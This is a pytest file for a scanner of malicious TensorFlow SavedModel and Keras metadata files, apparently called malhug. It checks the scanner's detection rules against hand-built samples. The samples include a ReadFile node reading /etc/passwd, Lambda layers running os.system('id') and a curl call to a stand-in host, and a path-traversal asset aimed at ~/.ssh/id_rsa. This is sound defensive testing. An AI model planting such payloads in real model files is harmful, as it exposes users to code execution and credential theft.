"""saved_model.pb ops and keras_metadata.pb Lambda metadata, from hand-encoded protobuf."""

from __future__ import annotations

import json

from malhug.analyzers.dispatch import scan_source
from malhug.analyzers.shared.source import BytesSource
from malhug.core.model import Category, Severity, Verdict
from tests.keras.keraslib import dense, lambda_b64, lambda_layer, only, rules, scan, sequential
from tests.keras.protowire import keras_metadata, node_def, saved_model, string_attr, string_tensor_attr


def _matmul_graph() -> list[bytes]:
    return [
        node_def("x", "Placeholder"),
        node_def("w", "VarHandleOp"),
        node_def("read", "ReadVariableOp", ("w",)),
        node_def("y", "MatMul", ("x", "read")),
        node_def("save/SaveV2", "SaveV2", ("save/Const",)),
        node_def("save/RestoreV2", "RestoreV2", ("save/Const",)),
    ]


def test_ordinary_graph_is_clean() -> None:
    report = scan(saved_model(_matmul_graph(), functions={"__inference_call_12": _matmul_graph()}), "saved_model.pb")
    assert report.format == "savedmodel-pb"
    assert report.findings == []
    assert report.verdict is Verdict.CLEAN


def test_read_file_of_a_credential_path_is_critical() -> None:
    nodes = [
        *_matmul_graph(),
        node_def("path", "Const", attrs={"value": string_tensor_attr("/etc/passwd")}),
        node_def("leak", "ReadFile", ("path",)),
    ]
    report = scan(saved_model(nodes), "saved_model.pb")
    f = only(report, "MH310")
    assert f.severity is Severity.CRITICAL
    assert f.category is Category.CREDENTIAL_THEFT
    assert "'/etc/passwd'" in f.message
    assert "meta_graphs[0]/leak" in f.message
    assert f.location.offset is not None


def test_read_file_in_a_function_library() -> None:
    body = [
        node_def("p", "Const", attrs={"value": string_tensor_attr("data.txt")}),
        node_def("r", "ReadFile", ("p:0",)),
    ]
    report = scan(saved_model(_matmul_graph(), functions={"__inference_serve_7": body}), "saved_model.pb")
    f = only(report, "MH310")
    assert f.severity is Severity.HIGH
    assert f.category is Category.EXFILTRATION
    assert "function:__inference_serve_7/r" in f.message


def test_write_file_pyfunc_and_print_to_file() -> None:
    nodes = [
        node_def("w", "WriteFile", ("name", "contents")),
        node_def("py", "PyFunc", attrs={"token": string_attr("pyfunc_0")}),
        node_def("pr", "PrintV2", ("msg",), attrs={"output_stream": string_attr("file:///tmp/malhug-sentinel")}),
        node_def("ok", "PrintV2", ("msg",), attrs={"output_stream": string_attr("stderr")}),
    ]
    report = scan(saved_model(nodes), "saved_model.pb")
    assert rules(report) == ["MH311", "MH311", "MH312"]
    py = only(report, "MH312")
    assert py.category is Category.CODE_EXEC and py.severity is Severity.HIGH
    printed = [f for f in report.findings if f.rule == "MH311" and "PrintV2" in f.message]
    assert printed[0].severity is Severity.MEDIUM
    assert "file:///tmp/malhug-sentinel" in printed[0].message
    assert "pr" in printed[0].message and "/ok" not in printed[0].message


def test_keras_metadata_in_the_object_graph() -> None:
    meta = json.dumps(
        {"class_name": "Lambda", "config": lambda_layer([lambda_b64("os.system('id') or x"), None, None])["config"]}
    )
    report = scan(saved_model(_matmul_graph(), user_metadata=meta), "saved_model.pb")
    f = only(report, "MH301")
    assert f.location.member == "object_graph.nodes[0]"


def test_truncated_saved_model_is_malformed() -> None:
    data = saved_model(_matmul_graph())
    report = scan_source(BytesSource(data[:-5]), name="saved_model.pb", format_hint="savedmodel-pb")
    assert rules(report) == ["MH901"]
    assert report.verdict is Verdict.SUSPICIOUS
    wrong = scan_source(BytesSource(b"\x12\x05abc"), name="saved_model.pb", format_hint="savedmodel-pb")
    assert rules(wrong) == ["MH901"]


def _metadata_nodes(function: object | None) -> list[tuple[str, str]]:
    layers = [dense("dense")]
    if function is not None:
        lam = lambda_layer(function)
        lam["config"]["function"] = {"class_name": "__tuple__", "items": function}
        layers.append(lam)
    root = {"name": "sequential", "class_name": "Sequential", "config": sequential(*layers)["config"]}
    nodes = [("root", json.dumps(root))]
    for i, layer in enumerate(layers):
        nodes.append((f"root.layer-{i}", json.dumps({"name": layer["config"]["name"], **layer})))
    return nodes


def test_keras_metadata_lambda_is_found_once_with_its_node_path() -> None:
    code = lambda_b64("os.system('curl https://malhug-sentinel.invalid/x') or x")
    report = scan(keras_metadata(_metadata_nodes([code, None, None])), "keras_metadata.pb")
    assert report.format == "keras-metadata-pb"
    f = only(report, "MH301")  # the root config and the layer node repeat it: reported once
    assert f.location.member == "root"
    assert f.severity is Severity.CRITICAL
    assert f.category in {Category.EXFILTRATION, Category.DOWNLOAD_EXEC, Category.COMMAND_EXEC}


def test_benign_keras_metadata_is_clean() -> None:
    report = scan(keras_metadata(_metadata_nodes(None)), "keras_metadata.pb")
    assert report.format == "keras-metadata-pb"
    assert report.findings == []


def test_immutable_const_maps_a_named_file() -> None:
    nodes = [
        *_matmul_graph(),
        node_def("c", "ImmutableConst", attrs={"memory_region_name": string_attr("/etc/hostname")}),
    ]
    f = only(scan(saved_model(nodes), "saved_model.pb"), "MH313")
    assert f.severity is Severity.MEDIUM
    assert f.category is Category.UNSAFE_FORMAT
    assert "'/etc/hostname'" in f.message


def test_large_vocabulary_constants_are_not_a_limit_problem() -> None:
    vocab = [f"token{i}" for i in range(20_000)] + ["x" * 200_000]
    nodes = [*_matmul_graph(), node_def("vocab", "Const", attrs={"value": string_tensor_attr(*vocab)})]
    assert scan(saved_model(nodes), "saved_model.pb").findings == []


def test_asset_paths_must_stay_in_the_assets_folder() -> None:
    clean = scan(saved_model(_matmul_graph(), assets=("vocab.txt", "tables/labels.txt")), "saved_model.pb")
    assert clean.findings == []
    report = scan(
        saved_model(_matmul_graph(), assets=("vocab.txt", "../../../../home/user/.ssh/id_rsa")), "saved_model.pb"
    )
    f = only(report, "MH314")
    assert f.category is Category.PATH_TRAVERSAL
    assert f.evidence == "../../../../home/user/.ssh/id_rsa"
    assert report.verdict is Verdict.MALICIOUS
